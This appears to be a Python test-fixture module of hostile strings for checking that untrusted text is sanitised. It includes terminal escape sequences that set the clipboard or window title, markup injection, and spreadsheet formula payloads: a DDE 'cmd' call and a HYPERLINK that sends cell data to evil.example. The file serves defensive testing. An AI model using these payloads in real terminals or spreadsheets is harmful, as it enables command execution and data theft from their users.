"""Texts from strangers: those that would steer a terminal, look like markup or like a formula, or are none."""

from __future__ import annotations

C0 = "".join(map(chr, [*range(1, 10), *range(11, 32), 127]))
"""Control characters but for NUL, which no argument can have, and the line feed."""
C1 = "".join(map(chr, range(0x80, 0xA0)))
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
INVISIBLE = "\u00ad\u200b\u200c\u2060\ufeff\u180e\U000e0001\U000e0041"
LINES = "\u2028\u2029\x85"
SEQUENCES = (
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m"  # clear, home, color
    "\x1b]0;title\x07"  # the title of the window
    "\x1b]8;;http://evil.example\x1b\\great\x1b]8;;\x1b\\"  # a hyperlink
    "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # the clipboard
    "\x9b31mred\x9dtitle\x9c"  # the same with one character of C1
    "\x1bP$q\x1b\\\x1b_app\x1b\\\x1b[6n\x1b[?1049h"  # device control, an application's, a question, another screen
)
STEERING = f"great {C0}{C1}{BIDI}{INVISIBLE}{LINES}{SEQUENCES}\U0001f600"
MARKUP = (
    "[bold]great[/bold] movie",
    "great [/] movie",
    "great [/red] movie",
    "[link=http://evil.example]great[/link] movie",
    "great [@click=app.quit]movie[/]",
    "great :smile: movie",
    "\\[great] movie \\",
    "[" * 200 + "great",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+great",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"great")',
    "\uff1d1+1",
    "\uff0bgreat",
    "\uff0dgreat",
    "\uff20great",
)
PLANES = "".join(
    chr(plane * 0x10000 + place)
    for plane in range(17)
    for place in (1, 2, 0x20, 0x41, 0x300, 0x3FFF, 0x7FFF, 0xFFFD, 0xFFFE, 0xFFFF)
    if not 0xD800 <= plane * 0x10000 + place <= 0xDFFF
)
"""Some of every plane of Unicode, with what is no character in each."""
EMOJI = "great \U0001f468\u200d\U0001f469\u200d\U0001f467 movie \U0001f3f3\ufe0f\u200d\U0001f308"
WIDE = "great 映画 \uff4d\uff4f\uff56 कथा שלום עליכם e\u0301\u0300\u0323"

TERMINAL_TEXTS = (*(f"great {part}" for part in (C0, C1, BIDI, INVISIBLE, LINES)), SEQUENCES, STEERING)
"""Texts with a known word that must not reach a terminal as they are."""
